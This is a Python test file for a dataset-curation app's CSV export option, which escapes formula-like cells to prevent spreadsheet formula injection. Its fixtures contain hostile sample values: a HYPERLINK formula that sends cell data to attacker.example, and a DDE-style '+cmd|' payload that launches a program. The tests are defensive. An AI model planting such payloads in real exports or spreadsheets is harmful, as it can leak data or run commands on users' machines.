"""CSV formula injection: an opt-in escape of cells a spreadsheet would run (csv_escape_formulas).

Off by default, so the manifest keeps the stored values exactly (the import reads them back); on, text
cells starting with = + - @ (or tab / CR) get a leading "'", and nothing else changes.
"""

import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from curation.exports.models import Export
from curation.exports.services.manifests import csv_formula_escaped
from jobs.models import JobStatus
from tests.curation.exports.builders import export_file_bytes, run_export
from tests.factories import DatasetFactory, DatasetVersionFactory, SampleFactory, VersionSampleFactory

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'


def hostile_version():
    """One member whose caption is a formula, source starts with "+", label with "@"."""
    dataset = DatasetFactory(name="hostile", classes=["@SUM(A1)"])
    version = DatasetVersionFactory(dataset=dataset, number=1, sample_count=1)
    sample = SampleFactory(dataset=dataset, caption=HYPERLINK, source="+cmd|'/C calc'")
    VersionSampleFactory(version=version, sample=sample, label="@SUM(A1)")
    return version


def manifest_row(export: Export) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(export_file_bytes(export, "manifest.csv").decode()))
    return row


def test_by_default_the_csv_keeps_formula_cells_as_stored(curator):
    # given a member whose caption, source and label start like formulas
    version = hostile_version()
    # when exported as CSV without the option
    export, job = run_export(version, "csv", user=curator)
    # then the cells are exactly the stored values
    assert job.status == JobStatus.SUCCEEDED, job.error
    row = manifest_row(export)
    assert (row["caption"], row["source"], row["label"]) == (HYPERLINK, "+cmd|'/C calc'", "@SUM(A1)")
    assert export.options == {}


def test_with_csv_escape_formulas_those_cells_get_a_leading_quote(curator):
    # given the same member
    version = hostile_version()
    # when exported as CSV with the escape on
    export, job = run_export(version, "csv", user=curator, csv_escape_formulas=True)
    # then each formula-like text cell starts with "'", the others are unchanged
    assert job.status == JobStatus.SUCCEEDED, job.error
    row = manifest_row(export)
    assert (row["caption"], row["source"], row["label"]) == ("'" + HYPERLINK, "'+cmd|'/C calc'", "'@SUM(A1)")
    assert (row["split"], row["width"], row["dataset"]) == ("train", "32", "hostile")
    assert export.options == {"csv_escape_formulas": True}


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("cat", "cat"), ("", ""), ("a=b", "a=b"), (-1, -1), (32, 32)],
)  # fmt: skip
def test_which_cells_are_escaped(cell, escaped):
    assert csv_formula_escaped(cell) == escaped


def test_the_api_accepts_the_option_for_csv_only(curator):
    # given a version and a curator's API client
    version = hostile_version()
    client = APIClient()
    client.force_authenticate(curator)
    url = f"/api/versions/{version.pk}/exports/"
    # when the option is sent with csv, then with jsonl
    csv_response = client.post(url, {"format": "csv", "csv_escape_formulas": True}, format="json")
    jsonl_response = client.post(url, {"format": "jsonl", "csv_escape_formulas": True}, format="json")
    # then csv keeps it on the export; jsonl is refused with invalid_options and creates nothing more
    assert csv_response.status_code == 202
    assert Export.objects.get(pk=csv_response.json()["export"]["id"]).options == {"csv_escape_formulas": True}
    assert (jsonl_response.status_code, jsonl_response.json()["error"]["code"]) == (400, "invalid_options")
    assert Export.objects.count() == 1


def test_the_export_page_passes_the_box_for_csv(curator):
    # given the export page of the version
    version = hostile_version()
    client = Client()
    client.force_login(curator)
    url = f"/datasets/{version.dataset_id}/v/{version.number}/export/"
    # when CSV is requested with the box ticked, then JSONL with it ticked (ignored there)
    client.post(url, {"format": "csv", "csv_escape_formulas": "on"})
    client.post(url, {"format": "jsonl", "csv_escape_formulas": "on"})
    # then only the CSV export carries it
    assert [(e.format, e.options) for e in Export.objects.order_by("id")] == [
        ("csv", {"csv_escape_formulas": True}),
        ("jsonl", {}),
    ]
